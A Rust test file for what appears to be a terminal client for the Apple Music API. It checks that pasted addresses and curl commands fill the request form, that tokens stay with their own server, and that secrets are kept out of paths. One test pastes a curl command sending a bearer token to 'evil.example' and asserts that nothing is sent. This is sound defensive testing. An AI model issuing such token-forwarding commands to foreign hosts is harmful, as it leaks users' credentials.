//! Addresses and commands that are pasted into the path.

use super::*;
use crate::domain::secret::Secret;

const JWT: &str = "eyJhbGciOiJFUzI1NiJ9.eyJpc3MiOiJGSUNUSU9OVEVBIn0.c2lnbmF0dXJl";

fn paste(model: &mut Model, text: &str) -> Effects {
    update(model, Message::Input(Event::Paste(text.to_owned())))
}

/// A profile that speaks to Apple.
fn work() -> Model {
    let mut model = model("/v1/old");
    model.session.standing = standing("work");
    model
}

/// The sandbox, at a port of its own.
fn sandbox() -> Model {
    let mut model = model("/v1/old");
    model.session.standing.origin = "http://127.0.0.1:7347".parse().unwrap();
    model
}

fn path(model: &Model) -> String {
    model.composer.path.text()
}

#[test]
fn an_address_of_the_profile_s_server_becomes_its_path_and_undo_brings_the_old_one_back() {
    let mut model = work();
    assert_eq!(paste(&mut model, "https://api.music.apple.com/v1/storefronts?limit=2\n"), Effects::new());
    assert_eq!(path(&model), "/v1/storefronts?limit=2");
    for _ in 0..2 {
        update(&mut model, Message::Input(Event::Key(Key::ctrl('_'))));
    }
    assert_eq!(path(&model), "/v1/old");
}

#[test]
fn an_address_as_the_value_of_a_parameter_is_text() {
    let mut model = work();
    model.composer.open("/v1/x?url=");
    paste(&mut model, "https://api.music.apple.com/v1/y");
    assert_eq!(path(&model), "/v1/x?url=https://api.music.apple.com/v1/y");
}

#[test]
fn a_command_fills_the_form_and_sends_nothing() {
    let mut model = work();
    let text = "curl -X PUT -H 'Authorization: Bearer $T' -H 'X-A: b' -d '{\"a\":1}' https://api.music.apple.com/v1/x";
    assert_eq!(paste(&mut model, text), Effects::new());
    let draft = model.composer.draft();
    assert_eq!((draft.method, draft.path.as_str(), draft.body.as_str()), (Method::Put, "/v1/x", "{\"a\":1}"));
    assert_eq!(draft.headers, "X-A: b");
    assert_eq!(model.notice.as_deref(), Some("taken from the curl command"));
    assert!(model.errors.report().is_none());
}

#[test]
fn tokens_for_the_server_in_use_go_to_the_edge_and_a_send_waits_for_them() {
    let mut model = work();
    let user = "Ab1+/cd9".repeat(16);
    let text = format!(
        "curl -H 'Authorization: Bearer {JWT}' -H 'Music-User-Token: {user}' https://api.music.apple.com/v1/me/x"
    );
    let effects = paste(&mut model, &text);
    let [Effect::Adopt { turn, profile, origin, developer, user: taken }] = &effects[..] else {
        panic!("{effects:?}")
    };
    assert_eq!((profile.as_str(), origin), ("work", &Origin::apple()));
    assert_eq!((developer, taken), (&Some(Secret::new(JWT.to_owned())), &Some(Secret::new(user))));
    assert_eq!(press(&mut model, KeyCode::Enter), Effects::new(), "the tokens are not in use yet");
    let turn = *turn;
    let effects = update(&mut model, Message::Standing { turn, standing: Box::new(standing("work")) });
    assert_eq!(fetch_in(&effects).1, "/v1/me/x");
}

#[test]
fn tokens_for_apple_never_go_to_the_sandbox_and_the_command_does() {
    let mut model = sandbox();
    let text = format!("curl -H 'Authorization: Bearer {JWT}' https://api.music.apple.com/v1/storefronts");
    assert_eq!(paste(&mut model, &text), Effects::new());
    assert_eq!(path(&model), "/v1/storefronts");
    assert_eq!(model.notice.as_deref(), Some("taken from the curl command; it goes to the sandbox"));
    let told = model.errors.report().unwrap().entries[0].meaning.clone();
    assert!(told.contains("were not kept: the profile sandbox speaks to another server"), "{told}");
}

#[test]
fn another_server_s_address_stays_whole_and_is_not_sent() {
    let mut model = work();
    let text = format!("curl -H 'Authorization: Bearer {JWT}' https://evil.example/v1/x");
    assert_eq!(paste(&mut model, &text), Effects::new());
    assert_eq!(path(&model), "https://evil.example/v1/x");
    assert_eq!(press(&mut model, KeyCode::Enter), Effects::new());
    assert_eq!(model.errors.report().unwrap().headline, "Nothing was sent");
}

#[test]
fn a_secret_elsewhere_in_a_command_keeps_it_out() {
    for text in [
        format!("curl https://api.music.apple.com/v1/x?t={JWT}"),
        format!("curl -d '{JWT}' https://api.music.apple.com/v1/x"),
        format!("https://api.music.apple.com/v1/x?t={JWT}"),
    ] {
        let mut model = work();
        assert_eq!(paste(&mut model, &text), Effects::new());
        assert_eq!(path(&model), "/v1/old");
        assert!(model.notice.as_ref().is_some_and(|notice| notice.contains("holds a token or a key")));
    }
}

#[test]
fn what_was_left_out_is_told_beside_it() {
    let mut model = work();
    paste(&mut model, "curl -u a:b https://api.music.apple.com/v1/x | jq .");
    let report = model.errors.report().unwrap();
    assert_eq!(report.entries.len(), 2, "{report:?}");
}

#[test]
fn a_paste_over_an_open_list_is_taken_as_any_other() {
    for text in [
        "https://api.music.apple.com/v1/storefronts",
        "curl -u me:pass https://api.music.apple.com/v1/storefronts",
    ] {
        let mut model = work();
        update(&mut model, Message::Input(Event::Key(Key::ctrl('u'))));
        assert!(model.completing.is_open(), "emptying the path opens the list");
        paste(&mut model, text);
        assert_eq!(path(&model), "/v1/storefronts", "{text}");
        assert!(!model.completing.is_open());
    }
    let mut model = work();
    model.composer.path.set("/v1/catalog/us/songs/{id}");
    paste(&mut model, "https://api.music.apple.com/v1/storefronts");
    assert_eq!(path(&model), "/v1/storefronts", "a placeholder makes no difference");
}

#[test]
fn an_address_alone_is_a_get() {
    let mut model = work();
    paste(&mut model, "curl -X PUT https://api.music.apple.com/v1/me/ratings/songs/1 -d '{\"a\":1}'");
    assert_eq!(model.composer.method, Method::Put);
    paste(&mut model, "https://api.music.apple.com/v1/storefronts");
    assert_eq!(model.composer.method, Method::Get);
}
